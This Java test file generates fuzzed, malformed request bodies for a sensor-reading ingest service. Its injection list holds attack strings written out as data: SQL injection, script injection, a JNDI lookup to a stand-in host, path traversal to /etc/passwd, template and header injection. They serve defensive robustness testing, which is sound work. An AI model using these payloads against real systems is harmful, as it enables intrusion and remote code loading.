package org.civitas.ingest.reading;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.UUID;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import org.civitas.contract.ContractJson;

/**
 * Generators of malformed and hostile request bodies: wrong types in every field, huge and
 * non-finite numbers, deep nesting, odd unicode, injection strings, truncated and corrupted bytes.
 * Most bodies are close to valid readings, so that validation (not only parsing) is exercised.
 */
public final class HostileBodies {

  private static final List<String> INJECTIONS =
      List.of(
          "' OR 1=1 --",
          "'; DROP TABLE readings; --",
          "<script>alert(1)</script>",
          "${jndi:ldap://evil.example/a}",
          "%s%s%s%n%n",
          "../../../../etc/passwd",
          "{{7*7}}#{7*7}",
          "\r\nSet-Cookie: session=1",
          "\u202Egnp.exe",
          "\u0000\u0001\u001f",
          "\uFEFF\u200B",
          "😀🏳️‍🌈",
          "Ａ１２３ＢＣＤ",
          "licence_plate\u0000",
          "A".repeat(1025),
          "é".repeat(1024));

  private static final List<String> RAW_TOKENS =
      List.of(
          "NaN",
          "Infinity",
          "-Infinity",
          "1e400",
          "-1e400",
          "1e-400",
          "-0",
          "-0.0",
          "1.7976931348623157E309",
          "123456789012345678901234567890",
          "9".repeat(1200),
          "0." + "1".repeat(500),
          "true",
          "false",
          "null",
          "\"\"",
          "\"\\ud800\"",
          "\"\\udc00\\ud800\"",
          "\"\\u0000\"",
          "{}",
          "[]",
          "01",
          "+1",
          ".5",
          "0x10",
          "'single'",
          "undefined");

  private final List<String> sensorIds;
  private final Instant now;

  /**
   * @param sensorIds registered sensors to aim at, so that some readings get past the registry
   * @param now the clock the service under test runs on
   */
  public HostileBodies(List<String> sensorIds, Instant now) {
    this.sensorIds = List.copyOf(sensorIds);
    this.now = now;
  }

  /** Bodies sent as application/json. */
  public Arbitrary<byte[]> json() {
    Arbitrary<String> item =
        Arbitraries.frequencyOf(Tuple.of(4, readingLike()), Tuple.of(1, value(2)));
    return Arbitraries.frequencyOf(
        Tuple.of(4, readingLike().map(HostileBodies::utf8)),
        Tuple.of(
            4,
            item.list()
                .ofMaxSize(8)
                .map(items -> "{\"readings\":[" + String.join(",", items) + "]}")
                .map(HostileBodies::utf8)),
        Tuple.of(1, value(3).map(HostileBodies::utf8)),
        Tuple.of(1, nesting().map(HostileBodies::utf8)),
        Tuple.of(2, corrupted(readingLike())),
        Tuple.of(1, Arbitraries.bytes().array(byte[].class).ofMaxSize(300)));
  }

  /** Bodies sent as application/x-ndjson. */
  public Arbitrary<byte[]> ndjson() {
    Arbitrary<String> line =
        Arbitraries.frequencyOf(
            Tuple.of(5, readingLike()),
            Tuple.of(1, value(2)),
            Tuple.of(1, nesting()),
            Tuple.of(1, Arbitraries.strings().all().ofMaxLength(60)),
            Tuple.of(1, Arbitraries.just("")));
    Arbitrary<String> separator = Arbitraries.of("\n", "\r\n", "\n\n", "\n \t\n");
    return Arbitraries.frequencyOf(
        Tuple.of(
            5,
            Combinators.combine(line.list().ofMaxSize(10), separator)
                .as((lines, sep) -> String.join(sep, lines))
                .map(HostileBodies::utf8)),
        Tuple.of(1, corrupted(readingLike().list().ofMaxSize(4).map(l -> String.join("\n", l)))),
        Tuple.of(1, Arbitraries.bytes().array(byte[].class).ofMaxSize(300)));
  }

  /** A reading whose every field may be valid, missing, or any JSON value at all. */
  Arbitrary<String> readingLike() {
    Arbitrary<String> readingId =
        field(
            "readingId",
            Arbitraries.create(() -> quote(UUID.randomUUID().toString())),
            Arbitraries.of(
                    "00000000-0000-0000-0000-000000000000",
                    "1-1-1-1-1",
                    "8F14E45F-EA3B-4C1A-9D55-0D7C2B1A9E01",
                    "8f14e45f-ea3b-4c1a-9d55-0d7c2b1a9e0g",
                    "8f14e45fea3b4c1a9d550d7c2b1a9e01")
                .map(HostileBodies::quote));
    Arbitrary<String> sensorId =
        field(
            "sensorId",
            Arbitraries.of(sensorIds).map(HostileBodies::quote),
            Arbitraries.of("unknown-sensor", "").map(HostileBodies::quote));
    Arbitrary<String> observedAt =
        field(
            "observedAt",
            Arbitraries.longs()
                .between(-Duration.ofDays(8).toSeconds(), Duration.ofMinutes(10).toSeconds())
                .map(offset -> quote(now.plusSeconds(offset).toString())),
            Arbitraries.of(
                    "2026-11-26T10:15:30",
                    "2026-11-26 10:15:30Z",
                    "2026-02-30T10:15:30Z",
                    "+999999999-12-31T23:59:59Z",
                    "-999999999-01-01T00:00:00+18:00",
                    "2026-11-26T10:15:30+25:00",
                    "1764151200")
                .map(HostileBodies::quote));
    Arbitrary<String> category =
        field(
            "category",
            Arbitraries.of("licence_plate", "traffic_count", "energy_usage", "noise_level")
                .map(HostileBodies::quote),
            Arbitraries.of("LICENCE_PLATE", "").map(HostileBodies::quote));
    Arbitrary<String> location =
        field(
            "location",
            Combinators.combine(
                    Arbitraries.doubles().between(-90, 90),
                    Arbitraries.doubles().between(-180, 180))
                .as((lat, lon) -> "{\"lat\":" + lat + ",\"lon\":" + lon + "}"),
            Combinators.combine(value(1), value(1))
                .as((lat, lon) -> "{\"lat\":" + lat + ",\"lon\":" + lon + "}"));
    Arbitrary<String> attributes =
        field(
            "attributes",
            Arbitraries.just(
                "{\"plate\":\"ABCD123\",\"speedKmh\":48.2,\"lane\":2,\"flag\":true,\"none\":null}"),
            Combinators.combine(
                    Arbitraries.strings().all().ofMaxLength(10).map(HostileBodies::quote), value(2))
                .as((key, value) -> key + ":" + value)
                .list()
                .ofMaxSize(70)
                .map(entries -> "{" + String.join(",", entries) + "}"));
    return Combinators.combine(readingId, sensorId, observedAt, category, location, attributes)
        .as(
            (a, b, c, d, e, f) -> {
              StringBuilder json = new StringBuilder("{");
              for (String member : new String[] {a, b, c, d, e, f}) {
                if (!member.isEmpty()) {
                  json.append(json.length() > 1 ? "," : "").append(member);
                }
              }
              return json.append('}').toString();
            });
  }

  /** A member {@code "name": value}: valid, hostile, any value, or left out (empty string). */
  private Arbitrary<String> field(String name, Arbitrary<String> valid, Arbitrary<String> hostile) {
    return Arbitraries.frequencyOf(
            Tuple.of(12, valid),
            Tuple.of(1, hostile),
            Tuple.of(1, value(2)),
            Tuple.of(1, Arbitraries.just((String) null)))
        .map(value -> value == null ? "" : quote(name) + ":" + value);
  }

  /** Any JSON value, or a token that is not quite JSON. */
  static Arbitrary<String> value(int depth) {
    Arbitrary<String> scalar =
        Arbitraries.oneOf(
            Arbitraries.strings().all().ofMaxLength(40).map(HostileBodies::quote),
            Arbitraries.of(INJECTIONS).map(HostileBodies::quote),
            Arbitraries.of(RAW_TOKENS),
            Arbitraries.integers().map(String::valueOf),
            Arbitraries.longs().map(String::valueOf),
            Arbitraries.doubles().map(String::valueOf),
            Arbitraries.bigIntegers().map(String::valueOf));
    if (depth <= 0) {
      return scalar;
    }
    Arbitrary<String> inner = value(depth - 1);
    return Arbitraries.frequencyOf(
        Tuple.of(6, scalar),
        Tuple.of(1, inner.list().ofMaxSize(4).map(l -> "[" + String.join(",", l) + "]")),
        Tuple.of(
            1,
            Combinators.combine(Arbitraries.strings().all().ofMaxLength(8), inner)
                .as((k, v) -> quote(k) + ":" + v)
                .list()
                .ofMaxSize(4)
                .map(l -> "{" + String.join(",", l) + "}")));
  }

  /** Arrays and objects nested far deeper than any reading. */
  static Arbitrary<String> nesting() {
    return Combinators.combine(
            Arbitraries.integers().between(1, 3000), Arbitraries.of("[", "{\"a\":"))
        .as(
            (depth, open) ->
                open.repeat(depth) + "1" + (open.equals("[") ? "]" : "}").repeat(depth));
  }

  /** Valid-looking text cut short, or with a byte overwritten. */
  static Arbitrary<byte[]> corrupted(Arbitrary<String> text) {
    return Combinators.combine(
            text.map(HostileBodies::utf8),
            Arbitraries.integers().between(0, 10_000),
            Arbitraries.bytes(),
            Arbitraries.of(true, false))
        .as(
            (bytes, position, replacement, truncate) -> {
              if (bytes.length == 0) {
                return bytes;
              }
              int at = position % bytes.length;
              if (truncate) {
                return java.util.Arrays.copyOf(bytes, at);
              }
              byte[] changed = bytes.clone();
              changed[at] = replacement;
              return changed;
            });
  }

  static String quote(String text) {
    return ContractJson.mapper().writeValueAsString(text);
  }

  static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
